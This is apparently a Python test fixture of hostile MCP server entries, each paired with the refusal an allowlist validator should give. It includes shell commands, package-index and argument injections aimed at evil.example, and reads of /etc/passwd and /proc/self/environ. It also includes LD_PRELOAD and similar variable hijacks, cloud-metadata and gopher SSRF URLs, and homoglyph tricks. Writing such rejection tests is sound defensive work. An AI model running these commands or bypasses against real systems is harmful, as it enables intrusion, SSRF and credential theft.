"""Attempts of a message to get out of what it may have, each with a part of the sentence that refuses it."""

import json
from typing import Any, NamedTuple

#: what an installation may plausibly allow
RULES: dict[str, Any] = {
    "commands": [
        "uvx mcp-server-*==*",
        "npx -y @modelcontextprotocol/*@*",
        "mcp-server-time --local-timezone **",
        "/opt/servers/files --root /data/**",
        "notes --title=* --",
        "python -m mcp_server_git --repository /srv/*",
    ],
    "urls": ["*.example.com", "api.example.org/mcp", "http://tools.acme.svc:8080 10.96.0.0/12"],
    "tenants": {"acme": {"commands": ["sh /opt/acme.sh"], "urls": ["acme.example"]}},
}
_TIME = "uvx mcp-server-time==2026.10.19"


class Attempt(NamedTuple):
    """One server entry, and why it is refused."""

    name: str
    entry: dict[str, Any]
    fragment: str


def _run(line: str, **more: Any) -> dict[str, Any]:
    command, *args = line.split(" ")
    return {"command": command, "args": args, **more}


_NO_COMMAND = "no rule allows"
_NO_URL = "no rule allows http"
_NOT_PLAIN = "its url is not plain"


def _commands(reason: str, /, **lines: str) -> list[Attempt]:
    return [Attempt(name, _run(line), reason) for name, line in lines.items()]


def _urls(reason: str, /, **urls: str) -> list[Attempt]:
    return [Attempt(name, {"type": "http", "url": url}, reason) for name, url in urls.items()]


def _env(fragment: str, *names: str) -> list[Attempt]:
    return [Attempt(f"env_{name}", _run(_TIME, env={name: "/tmp/evil"}), fragment) for name in names]


ATTEMPTS: list[Attempt] = [
    # shells and interpreters
    *_commands(
        _NO_COMMAND,
        shell="sh -c id",
        shell_by_path="/bin/sh -c id",
        python_code="python -c print(1)",
        node_code="node -e 1",
        perl_code="perl -e 1",
        env_wrapper=f"env LD_PRELOAD=/tmp/x.so {_TIME}",
        busybox="busybox sh",
        other_module="python -m http.server",
        module_and_code="python -c 1 -m mcp_server_git --repository /srv/x",
        docker="docker run --privileged -v /:/host alpine",
        loader="/lib64/ld-linux-x86-64.so.2 /bin/sh",
    ),
    # path tricks
    *_commands(
        _NO_COMMAND,
        relative_command="./uvx mcp-server-time==1",
        command_by_another_path="/tmp/uvx mcp-server-time==1",
        parent_in_command="/opt/servers/../../bin/sh --root /data/x",
        double_slash="//opt/servers/files --root /data/x",
        parent_in_argument="/opt/servers/files --root /data/../etc",
        parent_at_the_end="/opt/servers/files --root /data/x/..",
        dot_in_argument="/opt/servers/files --root /data/./x",
        another_root="/opt/servers/files --root /etc",
        proc_self="/opt/servers/files --root /proc/self/environ",
        prefix_of_the_root="/opt/servers/files --root /database",
        scope_escape="npx -y @modelcontextprotocol/../../evil@1",
        scope_alone="npx -y @modelcontextprotocol@1",
        home="/opt/servers/files --root ~root",
    ),
    # argument injection
    *_commands(
        _NO_COMMAND,
        from_another_package="uvx --from evil mcp-server-time==1",
        with_another_package="uvx --with evil mcp-server-time==1",
        python_of_uvx="uvx --python /tmp/evil mcp-server-time==1",
        index_behind="uvx mcp-server-time==1 --index-url https://evil.example",
        index_before="uvx --index-url=https://evil.example mcp-server-time==1",
        direct_reference="uvx mcp-server-time@https://evil.example/x.whl",
        direct_reference_behind_version="uvx mcp-server-time==1@https://evil.example/x.whl",
        git_reference="uvx mcp-server-time==git+https://evil.example/x",
        extras="uvx mcp-server-time[evil]==1",
        marker="uvx mcp-server-time==1;python_version>'3'",
        no_version="uvx mcp-server-time",
        wheel="uvx mcp-server-time==1.whl",
        npm_alias="npx -y @modelcontextprotocol/x@npm:evil@1",
        npm_file="npx -y @modelcontextprotocol/x@file:/srv/evil",
        npm_dot_directory="npx -y @modelcontextprotocol/x@.evil",
        npm_tarball="npx -y @modelcontextprotocol/x@1.tgz",
        npm_url="npx -y @modelcontextprotocol/x@https://evil.example/x",
        npm_github="npx -y @modelcontextprotocol/x@evil/repo",
        npx_call="npx -c id",
        npx_package="npx -y -p evil @modelcontextprotocol/x@1",
        npx_registry="npx -y --registry=https://evil.example @modelcontextprotocol/x@1",
        npx_without_yes="npx @modelcontextprotocol/x@1",
        option_for_a_value="mcp-server-time --local-timezone --version",
        response_file="mcp-server-time --local-timezone @/etc/passwd",
        another_option="notes --title=a --exec=id",
        value_with_equals="notes --title=a=b --",
        missing_end_of_options="notes --title=a",
        wildcard_itself="notes --title=* --",
        rest_itself="mcp-server-time ...",
    ),
    Attempt("two_in_one", _run("notes", args=["--title=a --exec=id", "--"]), _NO_COMMAND),
    Attempt("newline_in_argument", _run("notes", args=["--title=a\n--exec", "--"]), _NO_COMMAND),
    Attempt("tab_in_argument", _run("notes", args=["--title=a\tb", "--"]), _NO_COMMAND),
    Attempt("nul_in_argument", _run("notes", args=["--title=a\0b", "--"]), "no control characters"),
    Attempt("empty_argument", _run("notes", args=["--title=", "--"]), _NO_COMMAND),
    Attempt("whole_line_as_command", {"command": _TIME}, _NO_COMMAND),
    Attempt("long_argument", _run("notes", args=["--title=" + "a" * 100_000, "--"]), _NO_COMMAND),
    Attempt("reference_in_argument", _run("notes", args=["--title=${HOME}", "--"]), _NO_COMMAND),
    # look-alikes
    *_commands(
        _NO_COMMAND,
        cyrillic_command="uvх mcp-server-time==1",  # noqa: RUF001
        full_width_equals="uvx mcp-server-time＝＝1",  # noqa: RUF001
        cyrillic_scope="npx -y @modelcontextprotоcol/x@1",  # noqa: RUF001
        full_width_dash="uvx mcp‐server-time==1",  # noqa: RUF001
        zero_width="uvx mcp-server-\u200btime==1",
        right_to_left="uvx mcp-server-\u202eemit==1",
        full_width_digit="uvx mcp-server-time==１",  # noqa: RUF001
        upper_case="UVX mcp-server-time==1",
        no_break_space="uvx mcp-server-time==1\u00a0",
    ),
    # variables
    *_env(
        "which a message may not",
        *("PATH", "LD_PRELOAD", "DYLD_INSERT_LIBRARIES", "NODE_OPTIONS", "PYTHONPATH", "BASH_ENV",
        "GIT_SSH_COMMAND"),
        *("UV_INDEX_URL", "UV_DEFAULT_INDEX", "npm_config_registry", "NPM_CONFIG_NODE_OPTIONS",
        "PIP_INDEX_URL"),
        *("HTTPS_PROXY", "SSL_CERT_FILE", "NODE_TLS_REJECT_UNAUTHORIZED", "HOME", "XDG_CONFIG_HOME",
        "PYTHONSTARTUP"),
    ),
    *_env("name can't be a variable's", "РATH", "BASH_FUNC_id%%", "LD PRELOAD", "ＰATH"),  # noqa: RUF001
    Attempt("env_with_equals", _run(_TIME, env={"LD_PRELOAD=/tmp/x.so #": "x"}), 'names without "="'),
    Attempt("env_with_newline", _run(_TIME, env={"A\nLD_PRELOAD": "x"}), "expected printable names"),
    # URLs
    *_urls(
        _NO_URL,
        plain_http="http://a.example.com/",
        metadata_of_the_cloud="http://169.254.169.254/latest/meta-data/",
        loopback="http://127.0.0.1:6443/",
        loopback_v6="https://[::1]/",
        mapped_loopback="https://[::ffff:127.0.0.1]/",
        kubernetes="https://kubernetes.default.svc/api",
        another_port="https://a.example.com:8443/",
        suffix_in_front="https://a.example.com.evil.example/",
        suffix_without_dot="https://evilexample.com/",
        apex="https://example.com/",
        path_prefix="https://api.example.org/mcpx",
        another_path="https://api.example.org/admin",
        tenant_of_others="https://acme.example/",
        service_on_another_port="http://tools.acme.svc:9090/",
    ),
    *_urls(
        _NOT_PLAIN,
        user_that_looks_like_a_host="https://a.example.com@evil.example/",
        backslash="https://evil.example\\.example.com/",
        fragment="https://evil.example#.example.com/",
        root_dot="https://a.example.com./",
        encoded_host="https://evil%2eexample.com/",
        decimal_address="https://2130706433/",
        hex_address="https://0x7f.0.0.1/",
        octal_address="https://0177.0.0.1/",
        short_address="https://127.1/",
        ideographic_dot="https://a。example.com/",
        cyrillic_host="https://a.ехample.com/",  # noqa: RUF001
        parent_path="https://api.example.org/mcp/../admin",
        encoded_parent_path="https://api.example.org/mcp/%2e%2e/admin",
        encoded_slash="https://api.example.org/mcp%2f..%2fadmin",
        parameters_in_the_path="https://api.example.org/mcp/..;/admin",
        zone="https://[fe80::1%25eth0]/",
        reference_as_host="https://${HOST}.example.com/",
    ),
    *_urls(
        "expected an http:// or https:// URL",
        file="file:///etc/passwd",
        gopher="gopher://127.0.0.1:6379/_FLUSHALL",
        javascript="javascript:alert(1)",
        no_host="https:///mcp",
    ),
    # what a message says of itself
    Attempt("tenant_in_the_entry", _run("sh /opt/acme.sh", tenant="acme"), _NO_COMMAND),
    Attempt("allow_in_the_entry", _run("sh -c id", allow="everything"), _NO_COMMAND),
    Attempt("url_beside_a_command", _run("sh", url="https://a.example.com/", type="stdio"), _NO_COMMAND),
    Attempt("command_as_list", {"command": ["sh", "-c", "id"]}, "expected a string"),
    Attempt("issuer", {"url": "https://a.example.com/mcp", "auth": {
        "type": "oauth", "issuer": "https://evil.example/", "clientIdFile": "s/i", "clientSecretFile": "s/s",
    }}, "no rule allows https://evil.example"),
]  # fmt: skip


def message(entry: dict[str, Any], tenant: str = "acme") -> bytes:
    """An envelope with the entry, from a producer who says to be a tenant with more rights."""
    body = {"jobId": "attempt", "tenant": tenant, "payload": {"mcpServers": {"evil": entry}}}
    return json.dumps(body).encode()
